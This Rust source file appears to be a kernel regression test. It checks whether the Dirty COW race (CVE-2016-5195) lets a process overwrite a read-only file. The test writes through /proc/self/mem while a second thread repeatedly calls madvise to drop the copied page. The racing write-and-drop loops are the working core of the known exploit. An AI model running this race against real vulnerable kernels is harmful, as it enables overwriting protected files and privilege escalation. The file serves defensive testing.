//! Dirty COW (CVE-2016-5195): can a process change a file that it may only read?
//!
//! It maps the file privately and read-only. One thread writes to the mapping through `/proc/self/mem`, which the kernel
//! allows, because it copies the page first; another one tells the kernel to drop the copy. The file must stay as it is,
//! whatever the order is in which the two get on. `docs/dirty-cow.md` has the story.
//!
//! Arguments: how often to write, and how often to drop; once each without.
#![no_std]
#![no_main]

use abi::PAGE_SIZE;
use abi::linux::mman::{MADV_DONTNEED, MAP_PRIVATE, PROT_READ};
use abi::linux::syscall::{O_RDONLY, O_RDWR};
use guest_user::syscall::file;
use guest_user::{Arguments, Span, println, program, thread};

program!(main);

const FILE: &core::ffi::CStr = c"secret";
const FORGED: &[u8] = b"forged";
/// Longest part of the file that is compared.
const READ_BYTES: usize = 64;

const CHANGED_STATUS: i32 = 1;
const USAGE_STATUS: i32 = 2;

fn main(arguments: Arguments) -> i32 {
    let (Some(writes), Some(drops)) = (count(arguments, 1), count(arguments, 2)) else {
        println!("usage: dirtycow [<writes> [<drops>]]");
        return USAGE_STATUS;
    };
    let before = Contents::read();
    println!("{} holds: {}", FILE.to_bytes().escape_ascii(), before.line());

    let fd = file::open(FILE, O_RDONLY).expect("open of the file");
    let mapping = Span::map_file(fd, 0, PAGE_SIZE, PROT_READ, MAP_PRIVATE).expect("mmap of the file");

    let dropper = thread::spawn(move || {
        for _ in 0..drops {
            mapping.advise(MADV_DONTNEED).expect("madvise");
        }
    });
    let dropper = dropper.expect("clone");
    let memory = file::open(c"/proc/self/mem", O_RDWR).expect("open of /proc/self/mem");
    for _ in 0..writes {
        let written = file::write_at(memory, FORGED, mapping.address()).expect("write to /proc/self/mem");
        assert_eq!(written, FORGED.len(), "all bytes in one page are written at once");
    }
    dropper.join();

    let after = Contents::read();
    println!("{} holds: {}", FILE.to_bytes().escape_ascii(), after.line());
    if after == before { 0 } else { CHANGED_STATUS }
}

/// The beginning of the file.
#[derive(Clone, Copy, PartialEq, Eq)]
struct Contents {
    bytes: [u8; READ_BYTES],
    len: usize,
}

impl Contents {
    fn read() -> Self {
        let fd = file::open(FILE, O_RDONLY).expect("open of the file");
        let mut bytes = [0; READ_BYTES];
        let len = file::read(fd, &mut bytes).expect("read of the file");
        file::close(fd).expect("close of the file");
        Self { bytes, len }
    }

    /// Its first line.
    fn line(&self) -> impl core::fmt::Display {
        let text = &self.bytes[..self.len];
        text.split(|&byte| byte == b'\n')
            .next()
            .unwrap_or(text)
            .escape_ascii()
    }
}

/// The argument as a number; 1 if it is missing.
fn count(arguments: Arguments, index: usize) -> Option<u32> {
    match arguments.get(index) {
        None => Some(1),
        Some(text) => str::from_utf8(text).ok()?.parse().ok(),
    }
}
